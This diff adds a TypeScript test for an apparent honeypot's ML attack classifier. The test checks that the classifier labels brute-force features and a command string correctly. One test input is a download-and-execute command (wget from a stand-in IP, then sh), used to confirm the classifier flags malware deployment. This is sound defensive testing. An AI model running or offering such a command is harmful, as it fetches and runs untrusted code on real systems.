@@ -1,0 +1,42 @@
+import assert from 'node:assert/strict';
+import { describe, it } from 'node:test';
+import { createRemoteScorer } from '../../src/score/http.ts';
+import { ask, command } from '../score/events.ts';
+import { createPlace, stop } from './command-line.ts';
+
+describe('decoyverse ml', () => {
+  it('serves predictions, to clients of old and to a server of ours', async (t) => {
+    const running = createPlace(t).start(['ml', '--port', '0']);
+    const [, address = ''] = await running.saw(/listening on (http:\/\/\S+)/);
+    const health = (await (await fetch(`${address}/health`)).json()) as { status: string };
+    assert.equal(health.status, 'healthy');
+    const answer = await fetch(`${address}/predict`, {
+      method: 'POST',
+      headers: { 'content-type': 'application/json' },
+      body: JSON.stringify({
+        failed_logins: 120,
+        request_rate: 200,
+        commands_count: 0,
+        sql_payload: 0,
+        honeytoken_access: 0,
+        session_time: 600,
+      }),
+    });
+    assert.equal(((await answer.json()) as { attack_type: string }).attack_type, 'BruteForce');
+
+    const remote = createRemoteScorer({ url: address, limitMs: 20_000 });
+    t.after(() => remote.close());
+    const verdict = await remote.judge(ask(command('cd /tmp; wget http://198.51.100.7/x; sh x')));
+    assert.equal(verdict.scored_by, 'ml_api');
+    assert.equal(verdict.attack_type, 'MalwareDeployment');
+    assert.ok(verdict.risk_score >= 8);
+    assert.ok(verdict.evidence.length > 0);
+    assert.equal((await stop(running)).code, 0);
+  });
+
+  it('refuses a port that is none', async (t) => {
+    const { code, stderr } = await createPlace(t).run(['ml', '--port', 'x']);
+    assert.equal(code, 2);
+    assert.match(stderr, /^error: .*port/m);
+  });
+});
